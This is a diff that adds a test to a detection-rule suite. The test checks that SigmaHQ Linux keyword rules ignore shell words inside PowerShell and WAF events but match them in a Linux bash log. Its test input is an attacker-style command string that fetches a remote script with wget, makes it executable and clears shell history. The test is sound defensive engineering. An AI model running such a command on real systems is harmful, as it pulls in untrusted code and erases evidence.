@@ -101,3 +101,21 @@ describe('SigmaHQ network rules on events our decoders produce', () => {
     for (const event of events) expect(set.match(event).map((r) => r.title), JSON.stringify(event.message ?? event.event)).toEqual([]);
   });
 });
+
+describe('SigmaHQ Linux rules stay on Linux events', () => {
+  it('a PowerShell script block with shell words does not fire Linux keyword rules; the same words in a Linux log do', async () => {
+    const files = (await listRuleFiles(`${RULES}/linux`)).map((f) => f.slice(RULES.length + 1));
+    const titles = await compileFiles(files);
+    const words = 'wget http://203.0.113.7/a.sh; chmod +x a.sh; history -c';
+    const doc = {
+      '@timestamp': '2026-11-26T02:00:00.000Z', message: `Creating Scriptblock text (1 of 1): ${words}`,
+      winlog: { channel: 'Microsoft-Windows-PowerShell/Operational', event_id: 4104, provider_name: 'Microsoft-Windows-PowerShell', computer_name: 'rsj-pc01', event_data: { ScriptBlockText: words } },
+    };
+    const decoded = decodeRecordLine({ text: JSON.stringify(doc), position: '1' }, 'win', assets, context, 'windows-event');
+    if (!decoded.ok) throw new Error(decoded.reason);
+    expect(titles(decoded.event)).toEqual([]);
+    // A CEF line a WAF sent with the same words in its request is no Linux shell either.
+    expect(titles(syslog(`Nov 26 10:00:00 waf01 CEF:0|Vendor|WAF|1.0|100|blocked|5|src=203.0.113.7 dst=10.20.0.9 act=block request=/x?c=${encodeURIComponent(words)} msg=${words}`))).toEqual([]);
+    expect(titles(syslog(`Nov 26 10:00:00 web01 bash[900]: ${words}`)).length).toBeGreaterThan(0);
+  });
+});
